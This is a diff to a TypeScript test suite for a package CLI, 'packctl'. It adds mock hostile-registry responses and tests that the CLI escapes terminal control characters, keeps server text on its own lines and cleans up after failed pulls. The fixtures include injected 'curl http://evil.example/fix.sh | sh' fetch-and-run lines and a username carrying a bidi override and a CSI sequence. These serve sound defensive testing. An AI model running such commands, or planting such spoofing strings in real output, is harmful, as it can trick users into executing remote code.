@@ -209,9 +209,87 @@ function hostileRegistry(scenario: string, rest: string, method: string): Answer
       return { status: rest === '/v1/auth/me' ? 302 : 307, redirect: `${elsewhere.url}${rest}` };
     case 'evil-text':
       return evilText(rest, method);
+    case 'forged-lines':
+      // An error whose text would print lines of packctl's own ("pulled ...", "hint: ...").
+      return {
+        status: 404,
+        json: {
+          error: {
+            code: 'NOT_FOUND',
+            message: 'no such pack\n\npulled evil@1.0.0 sha256:0000 -> ./evil-1.0.0\r\nwarning: run curl x | sh',
+            hint: 'try\nhint: curl http://evil.example/fix.sh | sh\u2028more',
+          },
+        },
+      };
+    case 'apikey-evil':
+      if (rest === '/v1/auth/me') return { json: ME };
+      if (rest.endsWith('/api-keys') && method === 'POST') {
+        const key = { id: 'k1', name: 'ci', createdAt: PUBLISHED_AT, expiresAt: null, revokedAt: null };
+        return { status: 201, json: { ...key, username: 'alice', key: `pyk_${EVIL}` } };
+      }
+      return NOT_FOUND;
+    case 'audit-evil':
+    case 'audit-loop':
+    case 'audit-endless':
+      if (rest === '/v1/auth/me') return { json: ME };
+      if (rest.startsWith('/v1/tenants/acme/audit')) return auditPage(scenario, rest);
+      return NOT_FOUND;
+    case 'profile-half':
+      return profileHalf(rest);
     default:
       return { status: 404, json: { error: { code: 'NO_SCENARIO', message: scenario } } };
   }
+}
+
+const ME = {
+  kind: 'user',
+  username: 'alice',
+  tenant: 'acme',
+  teams: [],
+  bindings: [],
+  tenantPermissions: [],
+  projects: [],
+};
+
+/** Cursors `audit-endless` handed out: a new one each page, for ever. */
+let auditPages = 0;
+
+/**
+ * A page of an audit log: one entry whose actor name carries DEL, a C1 CSI and a bidi override
+ * (what an anonymous sign-in as such a username plants in a real log); `audit-loop` answers the
+ * same cursor again and again, `audit-endless` a new one every time.
+ */
+function auditPage(scenario: string, rest: string): Answer {
+  const entry = {
+    id: `e${String(auditPages)}`,
+    at: PUBLISHED_AT,
+    actor: { kind: 'anonymous', name: '', tenant: null },
+    username: `mallory\x7f\x9b2J\u202egnp.exe`,
+    client: '127.0.0.1',
+    method: 'POST',
+    path: '/v1/auth/login',
+    scope: { scope: 'tenant', tenant: 'acme' },
+    status: 401,
+    outcome: 'denied',
+    requestId: 'r1',
+  };
+  const nextCursor = scenario === 'audit-evil' ? null : scenario === 'audit-loop' ? 'same' : `c${String(++auditPages)}`;
+  return { json: { items: rest.includes('cursor=same') ? [] : [entry], nextCursor } };
+}
+
+/**
+ * A profile of two packs, a and b: a's archive is sound, b's does not hash to its record's digest
+ * (a pull refused half-way).
+ */
+function profileHalf(rest: string): Answer {
+  const match = /^\/v1\/registries\/public\/packs\/([a-z]+)(?:\/([^/]+))?(\/archive|\/values\.yaml)?$/.exec(rest);
+  if (!match) return NOT_FOUND;
+  const [, name = '', version, tail] = match;
+  if (version === undefined)
+    return { json: detail({ name, displayName: name, latest: '1.0.0', versions: [listed('1.0.0')] }) };
+  if (tail === '/values.yaml') return NOT_FOUND;
+  if (tail === '/archive') return { bytes: name === 'b' ? Buffer.from(PACK).fill(0x41, 40, 50) : PACK };
+  return { json: record({ name, manifest: { ...MANIFEST, name } }) };
 }
 
 /** Answers whose every text field carries terminal control sequences. */
@@ -560,6 +638,92 @@ describe('packctl prints no control character a server sent', () => {
     expectNoControl(result);
     const page = JSON.parse(result.stdout) as { items: Array<{ name: string }> };
     expect(page.items[0]?.name).toBe(`evil${EVIL}`);
+  });
+});
+
+describe('packctl keeps server text on lines of its own', () => {
+  it('prints an error envelope with line breaks as one error line and one hint line', async () => {
+    const result = await run(['show', 'evil', ...server('forged-lines')]);
+    expect(result.status).toBe(4);
+    const lines = result.stderr.split('\n').filter((line) => line !== '');
+    expect(lines).toHaveLength(2);
+    expect(lines[0]).toMatch(/^error: looking up evil: no such pack\\x0a\\x0apulled evil@1\.0\.0/);
+    expect(lines[1]).toMatch(/^hint: try\\x0ahint: curl/);
+    expectNoControl(result);
+  });
+
+  it('refuses an API key that is not visible ASCII instead of printing it', async () => {
+    const result = await run(['apikey', 'create', 'ci', ...server('apikey-evil')], { env: { PACKCTL_TOKEN: TOKEN } });
+    expect(result.status).toBe(1);
+    expect(result.stdout).toBe('');
+    expect(result.stderr).toContain('holds a key packctl cannot use');
+    expect(result.stderr).toContain('packctl apikey rm k1');
+    expectNoControl(result);
+    const json = await run(['apikey', 'create', 'ci', ...server('apikey-evil'), '--format', 'json'], {
+      env: { PACKCTL_TOKEN: TOKEN },
+    });
+    expect(json.status).toBe(1);
+    expect(json.stdout).not.toContain('pyk_');
+  });
+
+  it('exports audit entries as JSON Lines with no raw DEL, C1 or bidi control, the data exact', async () => {
+    const result = await run(['audit', 'export', ...server('audit-evil')], { env: { PACKCTL_TOKEN: TOKEN } });
+    expect(result.status, result.stderr).toBe(0);
+    expectNoControl(result);
+    const entry = JSON.parse(result.stdout) as { username: string };
+    expect(entry.username).toBe('mallory\x7f\x9b2J\u202egnp.exe');
+  });
+
+  it('stops an audit export whose server repeats a cursor, or never stops giving new ones', async () => {
+    const loop = await run(['audit', 'export', ...server('audit-loop')], { env: { PACKCTL_TOKEN: TOKEN } });
+    expect(loop.status).toBe(1);
+    expect(loop.stderr).toContain('the server gives a page cursor it gave before, after 1 entries: stopped');
+    const endless = await run(['audit', 'export', ...server('audit-endless')], { env: { PACKCTL_TOKEN: TOKEN } });
+    expect(endless.status).toBe(1);
+    expect(endless.stderr).toContain('the server goes on past 1000 pages, after 1000 entries: stopped');
+    expect(endless.stdout.split('\n').filter((line) => line !== '')).toHaveLength(1000);
+  });
+});
+
+describe('packctl leaves nothing of a command that failed half-way', () => {
+  it('profile pull: a refused archive leaves -o as it was (no other archive, no lock)', async () => {
+    const sandbox = path.join(work.dir, 'profile-half');
+    const out = path.join(sandbox, 'out');
+    await mkdir(out, { recursive: true });
+    await writeFile(path.join(out, 'kept.txt'), 'from before\n');
+    const profile = path.join(sandbox, 'two.yaml');
+    await writeFile(
+      profile,
+      'name: two\nversion: 1.0.0\ntype: add-on\nregistries: [public]\npacks:\n  - { name: a, version: 1.x }\n  - { name: b, version: 1.x }\n',
+    );
+    const result = await run(['profile', 'pull', profile, ...server('profile-half'), '-o', out]);
+    expect(result.status).toBe(1);
+    expect(result.stderr).toContain('for b@1.0.0, whose record says');
+    expect(await tree(out)).toEqual(['kept.txt']);
+    // An -o it made goes again, parents and all.
+    const again = await run([
+      'profile',
+      'pull',
+      profile,
+      ...server('profile-half'),
+      '-o',
+      path.join(sandbox, 'new', 'out'),
+    ]);
+    expect(again.status).toBe(1);
+    expect(await tree(sandbox)).toEqual(['out', path.join('out', 'kept.txt'), 'two.yaml']);
+  });
+
+  it('pull --extract into a directory that is not empty keeps the archive an earlier pull verified', async () => {
+    const out = path.join(work.dir, 'extract-twice');
+    const first = await run(['pull', 'evil@1.0.0', ...server('honest'), '-o', out, '--extract']);
+    expect(first.status, first.stderr).toBe(0);
+    const archive = path.join(out, 'evil-1.0.0.zip');
+    const second = await run(['pull', 'evil@1.0.0', ...server('honest'), '-o', out, '--extract']);
+    expect(second.status).toBe(1);
+    expect(second.stderr).toContain(`${path.join(out, 'evil-1.0.0')} is not empty: nothing was pulled or extracted`);
+    expect(second.stderr).not.toContain('unsafe');
+    expect(sha256File(archive)).toBe(digestOf(PACK));
+    expect(await tree(out)).toEqual(['evil-1.0.0', 'evil-1.0.0.zip', path.join('evil-1.0.0', 'pack.json')].sort());
   });
 });
 
